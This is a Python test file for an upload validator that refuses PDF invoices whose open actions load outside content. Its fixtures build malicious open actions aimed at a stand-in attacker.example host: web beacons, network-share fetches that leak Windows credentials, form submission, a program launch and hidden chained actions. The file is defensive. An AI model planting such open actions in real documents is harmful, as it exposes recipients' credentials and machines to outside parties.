"""A PDF whose /OpenAction (or an action chained to it with /Next) loads something from outside
the document when it is opened — a web address, another file (also on a network share, which
hands the reader's Windows credentials to whoever runs it), form data sent or imported, a
program — is refused like one with an /AA action: staff open proofs of purchase in desktop
readers. Opening at a page, a named page action, and the same actions behind a link (which run
only when clicked) are kept."""

from __future__ import annotations

import io

import pikepdf
import pytest
from django import forms
from pikepdf import Array, Dictionary, Name, String

from aftersales.repairs.attachments import PDF, AttachmentField

from . import damaged_files, sample_files

ACTIVE = (
    "“{name}” contains macros, scripts, embedded files or links that run or load when it is "
    "opened, which we do not accept. Print or save it as a plain PDF and attach that."
)


class InvoiceForm(forms.Form):
    invoice = AttachmentField(required=False)


def check(name: str, content: bytes):
    return damaged_files.form_field(name, content, InvoiceForm)


def open_a_web_address(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://attacker.example/beacon"))


def open_a_file_on_a_network_share(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit])
    )


def open_a_remote_file(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToR, F=String("https://attacker.example/x.pdf"), D=Array([0, Name.Fit])
    )


def submit_a_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://attacker.example/c"))
    )


def import_data(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.ImportData, F=String("\\\\attacker.example\\s\\d.fdf"))


def launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name("/Launch"), F=String("calc.exe")))


def go_to_an_embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoToE, D=Array([0, Name.Fit]))


def a_page_then_a_web_address(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.Named,
        N=Name.NextPage,
        Next=Dictionary(S=Name.URI, URI=String("https://attacker.example/chain")),
    )


def a_chain_of_indirect_actions_in_an_array(pdf: pikepdf.Pdf) -> None:
    uri = pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://attacker.example/")))
    go_to = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    go_to.Next = Array([pdf.make_indirect(Dictionary(S=Name.Named, N=Name.FirstPage)), uri])
    pdf.Root.OpenAction = go_to


def a_loop_of_actions(pdf: pikepdf.Pdf) -> None:
    first = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    second = pdf.make_indirect(Dictionary(S=Name.Named, N=Name.FirstPage, Next=first))
    first.Next = second
    second.Next = Array([first, Dictionary(S=Name.SubmitForm, F=String("https://x.example/"))])
    pdf.Root.OpenAction = first


@pytest.mark.parametrize(
    "change",
    [
        open_a_web_address,
        open_a_file_on_a_network_share,
        open_a_remote_file,
        submit_a_form,
        import_data,
        launch,
        go_to_an_embedded_file,
        a_page_then_a_web_address,
        a_chain_of_indirect_actions_in_an_array,
        a_loop_of_actions,
    ],
)
def test_a_pdf_that_loads_outside_content_when_opened_is_refused(change):
    assert check("facture.pdf", sample_files.pdf(change=change)) == [
        ACTIVE.format(name="facture.pdf")
    ]


def test_an_open_action_hidden_in_a_compressed_object_stream_is_found():
    content = io.BytesIO()
    with pikepdf.open(io.BytesIO(sample_files.pdf(change=open_a_web_address))) as pdf:
        pdf.Root.OpenAction = pdf.make_indirect(pdf.Root.OpenAction)
        pdf.save(content, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/URI" not in content.getvalue()

    assert check("facture.pdf", content.getvalue()) == [ACTIVE.format(name="facture.pdf")]


def open_at_a_page_then_the_next(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo,
        D=Array([pdf.pages[0].obj, Name.Fit]),
        Next=Dictionary(S=Name.Named, N=Name.NextPage),
    )


def links_that_load_only_when_clicked(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 100, 20]),
                A=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
            ),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 20, 100, 40]),
                A=Dictionary(
                    S=Name.GoTo,
                    D=Array([pdf.pages[0].obj, Name.Fit]),
                    Next=Dictionary(S=Name.URI, URI=String("https://shop.example/")),
                ),
            ),
        ]
    )


@pytest.mark.parametrize(
    "change", [open_at_a_page_then_the_next, links_that_load_only_when_clicked]
)
def test_opening_at_a_page_and_links_clicked_later_are_accepted(change):
    assert check("facture.pdf", sample_files.pdf(change=change)) == PDF
